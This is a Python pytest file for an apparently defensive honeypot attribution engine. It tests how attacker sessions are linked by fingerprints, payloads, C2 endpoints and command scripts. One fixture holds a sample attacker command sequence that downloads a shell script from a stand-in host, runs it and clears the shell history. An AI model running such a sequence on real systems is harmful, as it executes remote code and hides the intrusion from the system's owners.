from __future__ import annotations

from random import Random
from typing import TYPE_CHECKING

import msgspec
import pytest

from decnet.attribution.identities import Identities, MembershipChange
from decnet.attribution.script import bands_of, commands_in
from decnet.attribution.sessions import SessionTraits
from decnet.attribution.signals import Kind, level_of, rises_at, value_of
from decnet.models.actor import attacker_uuid, session_uuid
from tests.attribution.population import pairwise_f1, population
from tests.events import NOON, SECOND

if TYPE_CHECKING:
    from collections.abc import Iterable

SCRIPT = ("cd /tmp", "wget http://192.0.2.1/a.sh", "chmod 777 a.sh", "sh a.sh", "rm -f a.sh", "history -c")
CROWD = 300


def address(number: int) -> str:
    return f"10.1.{number // 250}.{number % 250}"


def shown(
    src: str,
    *,
    hassh: str = "",
    ja4: str = "",
    browser: str = "",
    payload: str = "",
    endpoint: str = "",
    script: tuple[str, ...] = (),
    at: int = 0,
    session: str = "1",
    revision: int = 1,
) -> SessionTraits:
    """A session of ``src`` and what it shows."""
    fingerprints = [("hassh", hassh)] * bool(hassh) + [("ja4", ja4)] * bool(ja4)
    fingerprints += [("canary_identity", browser)] * bool(browser)
    return SessionTraits(
        session_uuid("svr04", src + session),
        attacker_uuid(src),
        revision,
        NOON + at * SECOND,
        "svr04",
        "ssh",
        tuple(fingerprints),
        (payload,) * bool(payload),
        (endpoint,) * bool(endpoint),
        bands_of(frozenset().union(*map(commands_in, script))),
    )


def crowd(size: int = CROWD, hassh: str = "common") -> list[SessionTraits]:
    """Attackers that have nothing but a client library in common."""
    return [shown(address(n), hassh=hassh, at=n) for n in range(size)]


def settled(sessions: Iterable[SessionTraits], network: int | None = None) -> Identities:
    identities = Identities()
    for traits in sessions:
        identities.observe(traits, network=network)
    identities.settle()
    return identities


def together(identities: Identities, *sources: str) -> bool:
    return len({identities.head_of(attacker_uuid(src)) for src in sources}) == 1


A, B, C, D = "198.51.100.1", "198.51.100.2", "198.51.100.3", "198.51.100.4"


def test_a_fingerprint_that_half_the_world_shares_joins_nobody() -> None:
    identities = settled(crowd() + [shown(address(1_000 + n), hassh=f"h{n}") for n in range(CROWD)])
    assert all(len(identities.members_of(identities.head_of(attacker_uuid(address(n))))) == 1 for n in range(CROWD))


@pytest.mark.parametrize("size", [4, 10, 40])
def test_not_even_in_a_small_world(size: int) -> None:
    identities = settled([*crowd(size), *(shown(address(1_000 + n), hassh=f"h{n}") for n in range(size))])
    assert not together(identities, address(0), address(1))


def test_a_rare_fingerprint_joins() -> None:
    identities = settled([*crowd(), shown(A, hassh="rare"), shown(B, hassh="rare", at=5)])
    assert together(identities, A, B)
    (edge,) = identities.edges_of(attacker_uuid(A))
    assert (edge.weight, edge.kinds) == (1.0, ("hassh",))


def test_a_browser_that_opened_two_canaries_is_one_identity_whatever_its_address() -> None:
    identities = settled([*crowd(), shown(A, browser="b1"), shown(B, browser="b1", at=5), shown(C, browser="b2", at=6)])
    assert together(identities, A, B)
    assert not together(identities, A, C)
    (edge,) = identities.edges_of(attacker_uuid(A))
    assert (edge.weight, edge.kinds) == (1.0, ("browser",))


def test_a_payload_joins_unless_fingerprints_disagree() -> None:
    same = settled([shown(A, payload="ff"), shown(B, payload="ff", hassh="x"), *crowd()])
    assert together(same, A, B)
    other = settled([shown(A, payload="ff", hassh="y"), shown(B, payload="ff", hassh="x"), *crowd()])
    assert not together(other, A, B)


def test_a_botnet_is_one_however_great_a_part_of_the_world_it_is() -> None:
    bots = [shown(address(5_000 + n), payload="ff", endpoint="c2:80") for n in range(CROWD // 2)]
    assert together(settled([*bots, *crowd()]), *(address(5_000 + n) for n in range(CROWD // 2)))


def test_a_download_site_that_everybody_uses_joins_nobody() -> None:
    visitors = [shown(address(5_000 + n), endpoint="downloads.example") for n in range(CROWD // 5)]
    assert not together(settled([*visitors, *crowd()]), address(5_000), address(5_001))


def test_fingerprints_of_different_kinds_do_not_disagree() -> None:
    identities = settled([shown(A, payload="ff", hassh="y"), shown(B, payload="ff", ja4="x"), *crowd()])
    assert together(identities, A, B)


def test_a_common_client_agrees_with_itself() -> None:
    identities = settled(
        [shown(A, endpoint="c2:80", hassh="common"), shown(B, endpoint="c2:80", hassh="common"), *crowd()]
    )
    assert together(identities, A, B)


def test_a_script_alone_is_not_enough_and_a_payload_beside_it_is() -> None:
    alone = settled([shown(A, script=SCRIPT), shown(B, script=SCRIPT), *crowd()])
    assert not together(alone, A, B)
    beside = [
        shown(A, script=SCRIPT, payload="ff", hassh="x"),
        shown(B, script=SCRIPT, payload="ff", hassh="y"),
        *crowd(),
    ]
    identities = settled(beside)
    assert together(identities, A, B)
    assert {edge.kinds for edge in identities.edges_of(attacker_uuid(A))} >= {("payload", "script")}


def test_a_script_is_the_same_with_other_addresses_and_names() -> None:
    one = bands_of(frozenset().union(*map(commands_in, SCRIPT)))
    changed = [line.replace("192.0.2.1", "203.0.113.99") for line in reversed(SCRIPT)]
    assert bands_of(frozenset().union(*map(commands_in, changed))) == one


def test_unlike_scripts_share_no_band() -> None:
    one = bands_of(commands_in("a; b; c; d; e; f"))
    assert not set(one) & set(bands_of(commands_in("a; b; u; v; w; x; y; z")))


def test_a_short_script_is_nobodys_own() -> None:
    assert bands_of(commands_in("uname -a; id")) == ()


def test_the_oldest_member_is_the_head() -> None:
    identities = settled([shown(A, hassh="r", at=9), shown(B, hassh="r", at=3), shown(C, hassh="r", at=5), *crowd()])
    assert {identities.head_of(attacker_uuid(src)) for src in (A, B, C)} == {attacker_uuid(B)}
    assert identities.members_of(attacker_uuid(B)) == {attacker_uuid(src) for src in (A, B, C)}


def test_changes_tell_who_founded_joined_and_merged() -> None:
    identities = Identities()
    for traits in [*crowd(), shown(A, hassh="x", at=1), shown(B, hassh="y", at=2)]:
        identities.observe(traits)
    first = identities.settle()
    a, b, c = map(attacker_uuid, (A, B, C))
    assert {MembershipChange(a, None, a), MembershipChange(b, None, b)} <= set(first.changes)
    identities.observe(shown(C, hassh="y", at=3))
    assert identities.settle().changes == [MembershipChange(c, None, b)]
    identities.observe(shown(A, hassh="y", at=4, session="2"))
    identities.observe(shown(B, hassh="x", at=5, session="2"))
    merged = identities.settle()
    assert sorted(merged.changes) == sorted([MembershipChange(b, b, a), MembershipChange(c, b, a)])
    assert identities.settle().changes == []


def test_an_unmerge_restores_the_earlier_membership() -> None:
    identities = settled([*crowd(), shown(A, hassh="x", at=0), shown(B, hassh="y", at=1)])
    before = {src: identities.head_of(attacker_uuid(src)) for src in (A, B)}
    bridge = shown(C, payload="ff", at=9)
    for traits in (bridge, shown(A, payload="ff", session="2", at=10), shown(B, payload="ff", session="2", at=11)):
        identities.observe(traits)
    identities.settle()
    assert together(identities, A, B, C)
    identities.observe(shown(A, session="2", at=10, revision=2), shown(A, payload="ff", session="2", at=10))
    undone = identities.settle()
    assert {src: identities.head_of(attacker_uuid(src)) for src in (A, B)} == before
    assert MembershipChange(attacker_uuid(B), attacker_uuid(A), attacker_uuid(B)) in undone.changes


def test_forgetting_an_attacker_parts_those_that_only_it_connected() -> None:
    sessions = [
        shown(A, hassh="r", at=1),
        shown(B, hassh="r", endpoint="c2", at=2),
        shown(C, endpoint="c2", at=3),
        *crowd(),
    ]
    identities = settled(sessions)
    assert together(identities, A, B, C)
    identities.forget(attacker_uuid(B))
    identities.settle()
    assert not together(identities, A, C)
    assert identities.members_of(attacker_uuid(A)) == {attacker_uuid(A)}
    again = settled([one for one in sessions if one.attacker != attacker_uuid(B)])
    assert again.edges_of(attacker_uuid(A)) == identities.edges_of(attacker_uuid(A))


def test_a_fingerprint_that_becomes_common_joins_no_longer() -> None:
    identities = settled([*crowd(), *(shown(src, hassh="new") for src in (A, B, C))])
    assert together(identities, A, B, C)
    for number in range(200):
        identities.observe(shown(address(2_000 + number), hassh="new"))
    identities.settle()
    assert not together(identities, A, B)


def test_a_fingerprint_becomes_rare_again_as_the_corpus_grows() -> None:
    identities = settled([*crowd(200), *(shown(address(3_000 + n), hassh="five") for n in range(5))])
    assert not together(identities, address(3_000), address(3_001))
    for number in range(1_000):
        identities.observe(shown(address(10_000 + number), hassh=f"other{number}"))
    identities.settle()
    assert together(identities, address(3_000), address(3_001))


def test_strangers_behind_one_address_stay_apart() -> None:
    shared = "198.51.100.99"
    sessions = [
        *(shown(src, hassh="x", payload="aa") for src in (A, B)),
        *(shown(src, hassh="y", payload="bb") for src in (C, D)),
        *(shown(shared, hassh="x", payload="aa", session=str(n)) for n in range(2)),
        shown(shared, hassh="y", payload="bb", session="9"),
        *crowd(),
    ]
    identities = settled(sessions)
    assert not together(identities, A, C)
    assert together(identities, A, B, shared)


def test_two_addresses_with_both_tools_are_one_owner() -> None:
    sessions = [shown(src, hassh=h, session=h) for src in (A, B) for h in "xy"]
    identities = settled([*sessions, shown(C, hassh="x"), shown(D, hassh="y"), *crowd()])
    assert together(identities, A, B, C, D)


def test_the_same_network_is_never_enough_and_an_unknown_one_is_no_edge() -> None:
    assert not together(settled([shown(A), shown(B), *crowd()], network=64_500), A, B)
    assert settled([shown(A), shown(B)]).edges_of(attacker_uuid(A)) == []


def test_the_network_tips_the_balance() -> None:
    """A script, equal credentials and three quarters of a fingerprint's weight are enough without it, these are not."""
    bands = (11, 12)

    def one(src: str) -> SessionTraits:
        traits = shown(src, hassh="q", session=src)
        return msgspec.structs.replace(traits, credentials=bands)

    others = [shown(address(20_000 + n), hassh="q") for n in range(10)]
    rest = [shown(address(n), hassh=f"z{n}") for n in range(800)]
    assert not together(settled([one(A), one(B), *others, *rest]), A, B)
    assert together(settled([one(A), one(B), *others, *rest], network=64_500), A, B)


@pytest.mark.parametrize("seed", range(6))
def test_the_order_of_sessions_and_of_settling_makes_no_difference(seed: int) -> None:
    people = population(150, seed)
    whole = settled(people.sessions)
    chance = Random(seed)  # noqa: S311 - the same every time
    shuffled = chance.sample(people.sessions, len(people.sessions))
    pieces = Identities()
    for traits in shuffled:
        if chance.random() < 0.1:
            first = SessionTraits(traits.session_id, traits.attacker, 0, traits.started_at, "svr04", "ssh")
            pieces.observe(first)
            pieces.settle()
            pieces.observe(traits, first)
        else:
            pieces.observe(traits)
        if chance.random() < 0.2:
            pieces.settle()
    pieces.settle()
    for attacker in people.owners:
        assert pieces.head_of(attacker) == whole.head_of(attacker)
        assert pieces.members_of(attacker) == whole.members_of(attacker)
        assert pieces.edges_of(attacker) == whole.edges_of(attacker)


def test_owners_of_a_known_population_are_found() -> None:
    people = population(3_000)
    identities = settled(people.sessions)
    heads = {attacker: identities.head_of(attacker) for attacker in people.owners}
    assert pairwise_f1(people.owners, heads) >= 0.95


def test_no_edge_rests_on_a_common_fingerprint_alone() -> None:
    people = population(3_000)
    identities = settled(people.sessions)
    common = {value_of(Kind.HASSH, f"common{n}") for n in range(6)}
    reasons = {edge.reason for attacker in people.owners for edge in identities.edges_of(attacker)}
    assert reasons
    assert not {reason for reason in reasons if set(reason) <= common}


@pytest.mark.parametrize(("clients", "corpus"), [(5, 100), (50, 1_000), (400, 4_000), (7, 7), (90, 10_000)])
@pytest.mark.parametrize("kind", [Kind.HASSH, Kind.PAYLOAD])
def test_a_level_rises_exactly_when_it_is_said_to(clients: int, corpus: int, kind: Kind) -> None:
    value = value_of(kind, "x")
    rises = rises_at(value, clients, corpus)
    assert rises > corpus
    level = level_of(value, clients, corpus)
    assert {level_of(value, clients, size) for size in range(corpus, rises)} == {level}
    assert level == 1 or level_of(value, clients, rises) > level
